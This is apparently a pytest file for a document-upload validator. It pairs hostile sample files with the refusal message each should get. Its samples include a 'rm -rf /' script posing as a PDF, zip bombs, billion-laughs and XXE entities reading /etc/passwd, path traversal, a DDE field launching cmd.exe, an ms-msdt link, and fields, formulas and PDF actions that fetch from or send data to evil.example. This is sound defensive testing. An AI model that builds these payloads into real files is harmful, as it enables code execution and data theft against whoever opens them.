"""Everything hostile or broken that may be sent as a paper, and the sentence that whoever sent it is told."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from scrutiny.intake.uploads import archives
from scrutiny.intake.uploads.refusal import BROKEN, TWO_KINDS
from tests.intake import mill

AGAIN = "Open it, save it again, and send that."
PRINT = "Print it to a new PDF, and send that."
MACROS = "holds macros, which a paper may not. Save it as .docx, without macros, and send that."
LOCKED = "is locked with a password. Take the password off, save it, and send that."
LEADS_OUT = f"holds a part whose name leads out of it. {AGAIN}"
ENTITIES = f"holds a document type with entities, which no Office program writes. {AGAIN}"
FETCHES = "holds a field that fetches from elsewhere. Click it, press Ctrl+Shift+F9, save it, and send that."
STARTS = f"starts something when it is opened or clicked. {PRINT}"

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {after} "{f"&{name};" * 10}">' for name, after in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><w>&i;</w>"
)


def field(instruction: str) -> bytes:
    return mill.body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def action(kind: str, **more: object) -> bytes:
    return mill.pdf_with("/OpenAction", Dictionary(S=Name(f"/{kind}"), **more))


def overlapping() -> bytes:
    """Two lines of the directory that are one part: what a bomb of a few kilobytes is made of."""
    content = mill.packed({"[Content_Types].xml": "<a/>" * 40, "b.xml": "<b/>" * 40}, zipfile.ZIP_STORED)
    first, second = content.find(b"PK\x01\x02"), content.rfind(b"PK\x01\x02")
    offset = content[first + 42 : first + 46]
    return content[: second + 42] + offset + content[second + 46 :]


def strict() -> bytes:
    rels = mill.part(mill.word(), "_rels/.rels")
    return mill.word(
        change={"_rels/.rels": rels.replace(b"schemas.openxmlformats.org/officeDocument/2006", b"purl.oclc.org/ooxml")}
    )


def telling_less() -> bytes:
    """A part that unpacks to more than the directory says."""
    content = bytearray(mill.word())
    at = content.find(b"PK\x01\x02")
    struct.pack_into("<L", content, at + 24, 10)
    return bytes(content)


def twice_named() -> bytes:
    file = io.BytesIO(mill.word())
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<other/>")
    return file.getvalue()


def many(parts: int) -> bytes:
    return mill.word(change={f"word/media/{at}.txt": b"" for at in range(parts)})


def pages(number: int) -> bytes:
    """Written by hand, which is quicker."""
    kids = " ".join(f"{at} 0 R" for at in range(3, number + 3))
    objects = ["<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Count {number}/Kids[{kids}]>>"]
    objects += ["<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"] * number
    written, places = "%PDF-1.7\n", []
    for at, each in enumerate(objects, 1):
        places.append(len(written))
        written += f"{at} 0 obj{each}endobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    trailer = f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{len(written)}\n%%EOF\n"
    return f"{written}xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}{trailer}".encode()


def old_office(*, locked: bool) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(600)
        + ("EncryptedPackage" if locked else "Word").encode("utf-16-le")
    )


def attached(document: pikepdf.Pdf) -> pikepdf.Object:
    stream = pikepdf.Stream(document, b"a whole spreadsheet")
    stream.Type = Name.EmbeddedFile
    return Dictionary(EmbeddedFiles=Dictionary(Names=[String("x.xlsx"), Dictionary(EF=Dictionary(F=stream))]))


def film(document: pikepdf.Pdf) -> pikepdf.Object:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    return Array([document.make_indirect(note)])


def link(address: str) -> Array:
    return Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI=address))]
    )


def wide_png() -> bytes:
    """A kilobyte that says it is a picture of 50,000 by 50,000 dots."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = struct.pack(">LLBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(500))) + chunk(b"IEND", b"")


def moving() -> bytes:
    file = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    frames[0].save(file, "GIF", save_all=True, append_images=frames[1:])
    return file.getvalue()


def chart(workbook: bytes, name: str = "word/embeddings/Microsoft_Excel_Sheet.xlsx") -> bytes:
    return mill.word(change={name: workbook})


CASES: list[tuple[str, str, Callable[[], bytes], str]] = [
    # What it says it is, and is not.
    ("a program under another name", "a.docx", lambda: b"MZ\x90" + bytes(200),
     "is a program, not a Word document. Do not open it: ask whoever gave it to you."),
    ("a script under another name", "a.pdf", lambda: b"#!/bin/sh\nrm -rf /",
     "is a program, not a PDF. Do not open it: ask whoever gave it to you."),
    ("a web page as PDF", "a.pdf", lambda: b"<!DOCTYPE html><html><body>Report</body></html>",
     "is a web page, not a PDF. Print it to a PDF, and send that."),
    ("an SVG with a script as PNG", "a.png", lambda: b"<svg xmlns='x'><script>alert(1)</script></svg>",
     "is an SVG drawing, not a PNG picture. Save it as .png, and send that."),
    ("XML as Word", "a.docx", lambda: b"<?xml version='1.0'?><w:wordDocument/>",
     "is XML, not a Word document. Open it in the program it is from, and save it as .docx."),
    ("RTF as Word", "a.docx", lambda: rb"{\rtf1 Report}",
     "is RTF, not a Word document. Open it in Word, save it as .docx, and send that."),
    ("an old Word document as a new one", "a.docx", lambda: old_office(locked=False),
     "is from Word, Excel or PowerPoint as they were before 2007. Save it as .docx, .xlsx or .pptx, and send that."),
    ("a PNG as JPEG", "a.jpg", mill.picture,
     "is a PNG picture, not a JPEG picture. Give it the ending .png, and send it again."),
    ("a Word document as PDF", "a.pdf", mill.word,
     "is a ZIP or an Office file, not a PDF. Save it as .pdf, and send that."),
    ("a workbook as Word", "a.docx", mill.workbook,
     "is an Excel workbook, not a Word document. Give it the ending .xlsx, and send it again."),
    ("a bare ZIP as Word", "a.docx", lambda: mill.packed({"a.txt": "a"}),
     "is a ZIP, not an Office file. Take the papers out of it, and send each by itself."),
    ("OpenDocument as Word", "a.docx", lambda: mill.packed({"mimetype": "application/vnd.oasis.opendocument.text"}),
     "is an OpenDocument file by its content. Save it as .docx, .xlsx or .pptx, and send that."),
    ("another archive as Excel", "a.xlsx", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50),
     "is .7z by its content, not an Excel workbook. Save it as .xlsx, and send that."),
    ("nothing that anybody knows", "a.pdf", lambda: b"lorem ipsum",
     "does not begin as a PDF does. Open it, save it as .pdf, and send that."),
    ("a template of Word", "a.docx", lambda: mill.typed("document.main+xml", "template.main+xml"),
     "is a template or a show, not a Word document. Save it as .docx, and send that."),
    # Two in one.
    ("a PDF with a ZIP behind it", "a.pdf", lambda: mill.pdf() + mill.word(), TWO_KINDS),
    ("a ZIP with a PDF in its first part", "a.docx",
     lambda: mill.packed({"a": mill.pdf()}, zipfile.ZIP_STORED), TWO_KINDS),
    ("a ZIP with something behind its end", "a.docx", lambda: mill.word() + b"<script>", TWO_KINDS),
    ("a picture with a ZIP behind it", "a.gif", lambda: mill.picture("GIF") + mill.word(), TWO_KINDS),
    ("a picture with a web page in its comment", "a.gif",
     lambda: mill.picture("GIF", comment=b"<script>alert(1)</script>"),
     "holds the code of a web page. Open it, save it anew as .png, and send that."),
    # The ZIP itself.
    ("a bomb of one part", "a.docx", lambda: mill.word(change={"word/a.xml": bytes(20_000_000)}), archives.BOMB),
    ("a bomb of many parts", "a.docx",
     lambda: mill.word(change={f"word/media/{at}.bin": b"\x00" * 900_000 for at in range(400)}), archives.BOMB),
    ("a bomb of parts that are one", "a.docx", overlapping, archives.BOMB),
    ("six thousand parts", "a.docx", lambda: many(6_000), archives.BOMB),
    ("a part that tells less than it holds", "a.docx", telling_less, BROKEN),
    ("two parts of one name", "a.docx", twice_named, archives.ALIKE),
    ("a part that leads out", "a.docx", lambda: mill.word(change={"../../etc/passwd": "x"}), LEADS_OUT),
    ("a part from the root", "a.docx", lambda: mill.word(change={"/etc/passwd": "x"}), LEADS_OUT),
    ("a part of another drive", "a.docx", lambda: mill.word(change={"C:/windows/x": "x"}), LEADS_OUT),
    ("a ZIP with a password", "a.docx", lambda: mill.locked_zip(mill.word()), LOCKED),
    ("a ZIP cut short", "a.docx", lambda: mill.word()[:-200], BROKEN),
    ("a ZIP within", "a.docx", lambda: mill.word(change={"word/media/a.bin": mill.packed({"x": "x"})}),
     "holds another file within it (a.bin, a ZIP). Put in a picture of it, or send that file by itself."),
    # XML.
    ("a billion laughs", "a.docx", lambda: mill.word(change={"word/document.xml": LAUGHS}), ENTITIES),
    ("an entity from a file", "a.docx", lambda: mill.word(
        change={"docProps/core.xml": '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><c>&x;</c>'}), ENTITIES),
    ("a document type from elsewhere", "a.xlsx", lambda: mill.workbook(
        change={"xl/styles.xml": '<!DOCTYPE s SYSTEM "https://evil.example/s.dtd"><s/>'}), ENTITIES),
    ("entities in UTF-16", "a.docx", lambda: mill.word(
        change={"word/x.bin": LAUGHS.replace('<?xml version="1.0"?>', "").encode("utf-16")}), ENTITIES),
    ("entities in a drawing of a note", "a.xlsx", lambda: mill.workbook(
        change={"xl/drawings/a.vml": "<!DOCTYPE x [<!ENTITY y 'z'>]><xml>&y;<br></xml>"}), ENTITIES),
    ("XML that does not close", "a.docx", lambda: mill.word(change={"word/styles.xml": "<w:styles>"}), BROKEN),
    # Programs and what opens by itself.
    ("macros", "a.docx", lambda: mill.word(change={"word/vbaProject.bin": b"\x01"}), MACROS),
    ("a .docm under another name", "a.docx", lambda: mill.typed(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "vnd.ms-word.document.macroEnabled.main"), MACROS),
    ("macros of Excel 4", "a.xlsx", lambda: mill.workbook(change={"xl/macrosheets/sheet1.xml": "<s/>"}),
     MACROS.replace(".docx", ".xlsx")),
    ("a control", "a.docx", lambda: mill.word(change={"word/activeX/activeX1.xml": "<x/>"}),
     "holds controls that run programs (ActiveX). Take them out, save it, and send that."),
    ("an object of another program", "a.docx", lambda: chart(old_office(locked=False), "word/oleObject1.bin"),
     "holds another file within it (oleObject1.bin, an object of another program). "
     "Put in a picture of it, or send that file by itself."),
    ("a program within", "a.pptx", lambda: mill.slides(
        change={"ppt/media/film.mp4": b"MZ" + bytes(60) + b"This program cannot be run in DOS mode."}),
     "holds another file within it (film.mp4, a program). Put in a picture of it, or send that file by itself."),
    ("a workbook behind a chart that has macros", "a.docx",
     lambda: chart(mill.workbook(change={"xl/vbaProject.bin": b"\x01"})),
     "holds Microsoft_Excel_Sheet.xlsx, which holds macros, which a paper may not. "
     "Save it as .xlsx, without macros, and send that."),
    ("a template from elsewhere", "a.docx",
     lambda: mill.related("attachedTemplate", "https://evil.example/t", to="word/document.xml"),
     "stands on a template from elsewhere (https://evil.example/t). Take the template off, save it, and send that."),
    ("a template on a server of somebody else's", "a.docx",
     lambda: mill.related("attachedTemplate", r"\\evil.example\t.dotm"),
     r"stands on a template from elsewhere (\\evil.example\t.dotm). Take the template off, save it, and send that."),
    ("a picture from elsewhere", "a.docx", lambda: mill.related("image", "https://evil.example/pixel.png"),
     "shows a picture that is kept elsewhere (https://evil.example/pixel.png). "
     "Put the picture itself in, save it, and send that."),
    ("a part of another file", "a.docx", lambda: mill.related("oleObject", "file:///C:/budget.xlsx"),
     "shows a part of another file (file:///C:/budget.xlsx). "
     "Break the link or put in a picture of it, save it, and send that."),
    ("a link that runs something", "a.docx", lambda: mill.related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
     "holds a link that is no address of a page (ms-msdt:/id PCWDiagnostic). Take it out, save it, and send that."),
    ("a document within that is not opened yet", "a.docx",
     lambda: mill.related("aFChunk", "chunk.rtf", external=False),
     "holds another document that is not opened yet. Open it in Word, save it again, and send that."),
    ("a field that starts a program", "a.docx", lambda: field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"'),
     "holds a field that starts another program (DDE). Take it out, save it, and send that."),
    ("a field that fetches", "a.docx", lambda: field('INCLUDETEXT "https://evil.example/x"'), FETCHES),
    ("a simple field that fetches", "a.docx",
     lambda: mill.body(r'<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;\\evil\x.png&quot;"/></w:p>'), FETCHES),
    ("a formula that fetches", "a.xlsx", lambda: mill.workbook(
        {"Data": '<row r="1"><c r="A1"><f>WEBSERVICE("https://evil.example/"&amp;B1)</f><v>0</v></c></row>'}),
     "holds a formula that fetches from elsewhere. Put in its value instead, save it, and send that."),
    ("a click that starts a program", "a.pptx", lambda: mill.slides('<a:hlinkClick action="ppaction://program"/>'),
     "starts something when it is clicked. Take the action off, save it, and send that."),
    ("a drawing with a script", "a.docx", lambda: mill.word(change={"word/media/a.svg": "<svg><script/></svg>"}),
     "holds a drawing (SVG) with a program or a picture from elsewhere. Put it in as .png instead."),
    ("an Office file with a password", "a.docx", lambda: old_office(locked=True), LOCKED),
    ("a Word document without its text", "a.docx", lambda: mill.word(change={"word/document.xml": None}), BROKEN),
    ("a Word document of the strict kind", "a.docx", strict,
     "is saved as Strict Open XML. In Word, save it as “Word Document (.docx)”, and send that."),
    # PDF.
    ("a PDF with a password", "a.pdf", lambda: mill.pdf_with(
        "/X", 1, encryption=pikepdf.Encryption(owner="o", user="u")), LOCKED),
    ("a PDF protected against changes", "a.pdf", lambda: mill.pdf_with(
        "/X", 1, encryption=pikepdf.Encryption(owner="o", user="")),
     "is protected against changes, so that no page number can be put on it. "
     "Save it without protection, and send that."),
    ("a PDF with a program", "a.pdf", lambda: action("JavaScript", JS=String("app.alert(1)")),
     f"holds a program (JavaScript), which a paper may not. {PRINT}"),
    ("a PDF that starts a program", "a.pdf", lambda: action("Launch", F=String("cmd.exe")), STARTS),
    ("a PDF that sends its form away", "a.pdf", lambda: action("SubmitForm", F=String("https://evil.example")), STARTS),
    ("a PDF with a file within", "a.pdf", lambda: mill.pdf_with("/Names", attached),
     "holds other files within it. Take them out, and send each by itself."),
    ("a form that only one program shows", "a.pdf", lambda: mill.pdf_with("/AcroForm", Dictionary(XFA=[String("x")])),
     f"is a form that most programs cannot show (XFA). {PRINT}"),
    ("a PDF with a film", "a.pdf", lambda: mill.pdf_with("/Annots", film, page=True),
     f"plays a film, a sound or a model. {PRINT}"),
    ("a PDF with a link that runs a program", "a.pdf",
     lambda: mill.pdf_with("/Annots", link("JavaScript:alert(1)"), page=True),
     f"holds a link that runs a program. {PRINT}"),
    ("a PDF of ten thousand pages", "a.pdf", lambda: pages(10_000),
     "has 10,000 pages, and the most is 3,000. Send it in parts."),
    ("a PDF cut short", "a.pdf", lambda: mill.pdf()[:-300], BROKEN),
    ("a PDF that is only its head", "a.pdf", lambda: b"%PDF-1.7\n%%EOF", BROKEN),
    # Pictures.
    ("a picture that fills the memory", "a.png", wide_png,
     "has more than 80 million dots. Make it smaller, and send that."),
    ("a picture cut short", "a.png", lambda: mill.picture(size=(400, 400))[:-60], BROKEN),
    ("a JPEG cut short", "a.jpg", lambda: mill.picture("JPEG", size=(400, 400))[:-300], BROKEN),
    ("a picture that moves", "a.gif", moving,
     "holds more than one picture, and only the first would be seen. Send it as a PDF."),
    ("only the head of a picture", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(40), BROKEN),
]  # fmt: skip
